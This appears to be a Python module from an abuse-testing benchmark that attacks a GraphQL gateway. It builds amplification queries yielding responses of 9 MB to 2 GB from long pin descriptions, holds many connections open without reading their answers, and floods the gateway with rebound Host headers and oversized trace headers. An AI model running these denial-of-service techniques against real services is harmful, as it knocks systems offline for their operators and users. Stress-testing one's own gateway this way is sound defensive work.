"""Attacks by few objects with long texts, by answers that nobody reads, and by requests that change
how the gateway treats others."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from bench.abuse.attacks.attacker import CONNECTIONS, Attack, Attacker, flood
from bench.abuse.attacks.wire import post
from bench.abuse.site import Facts

TEXT = "\N{GRINNING FACE}" * 5_000
"""The longest description: 20 KB."""
PINS = 10
CREATE = "mutation ($i: CreatePinInput!) { createPin(input: $i) { errors { code } } }"
UNREAD = 240


def pins(board: str) -> list[dict[str, Any]]:
    """The variables of `CREATE` for each pin with a long description."""
    return [{"i": {"boardId": board, "title": "long", "description": TEXT}}] * PINS


def of_boards(board: str, boards: int, aliases: int) -> str:
    """An operation whose whole answer has 200 KB for each board and alias."""
    edges = f"pins(first: {PINS}) {{ edges {{ node {{ {_described(aliases)} }} }} }}"
    ids = json.dumps([board] * boards)
    return f"{{ nodes(ids: {ids}) {{ ... on Board {{ {edges} }} }} }}"


def _described(aliases: int) -> str:
    return " ".join(f"d{number}: description" for number in range(aliases))


async def _written(attacker: Attacker) -> str:
    """The attacker's board, after pins with long descriptions were added to it. Raises OSError and
    EOFError."""
    board = attacker.facts.own_boards[-1]
    headers = {"authorization": f"Bearer {attacker.facts.stranger}"}
    for variables in pins(board):
        if (connection := await attacker.open()) is not None:
            await connection.ask(post({"query": CREATE, "variables": variables}, headers))
            connection.close()
    return board


def _texts(board: str, boards: int, aliases: int, headers: dict[str, str] | None = None) -> bytes:
    return post({"query": of_boards(board, boards, aliases)}, headers)


def _of_board(name: str, request: Callable[[str], bytes], connections: int = CONNECTIONS) -> Attack:
    """A flood of one request for the board."""

    async def run(attacker: Attacker) -> None:
        whole = request(await _written(attacker))
        await attacker.flood(lambda facts, number: whole, connections)

    return Attack(name, run)


async def _unread(attacker: Attacker) -> None:
    """Ask for 9 MB on each of many connections, and read nothing."""
    whole = _texts(await _written(attacker), 1, 45)
    opened = []
    while attacker.going:
        if len(opened) < UNREAD and (connection := await attacker.open()) is not None:
            connection.reader._limit = 1  # type: ignore[attr-defined]
            connection.writer.write(whole)
            opened.append(connection)
            attacker.answers["left unread"] += 1
        await attacker.wait(0.005)
    for connection in opened:
        connection.close()


def _rebound(facts: Facts, number: int) -> bytes:
    """A page of another site whose name resolves to the gateway's machine."""
    request = post({"query": "{ __typename }"}, {"accept-language": "en"})
    return request.replace(b"host: 127.0.0.1", b"host: page%d.example" % number, 1)


def _traced(facts: Facts, number: int) -> bytes:
    """A request whose client asks for its trace."""
    parent = f"00-{number + 1:032x}-{number + 1:016x}-01"
    page = "{ pins(first: 20) { edges { node { title board { name owner { id } } } } } }"
    return post({"query": page}, {"traceparent": parent, "tracestate": "a=" + "b" * 400})


ATTACKS: list[Attack] = [
    _of_board("long texts: a response of 2 GB", lambda board: _texts(board, 100, 98)),
    _of_board("long texts: a response of 9 MB", lambda board: _texts(board, 1, 45)),
    _of_board(
        "long texts: compressed",
        lambda board: _texts(board, 1, 19, {"accept-encoding": "gzip"}),
    ),
    Attack("long texts: answers of 9 MB that nobody reads", _unread),
    flood("pages whose name resolves to the gateway", _rebound),
    flood("traces that clients ask for", _traced),
]
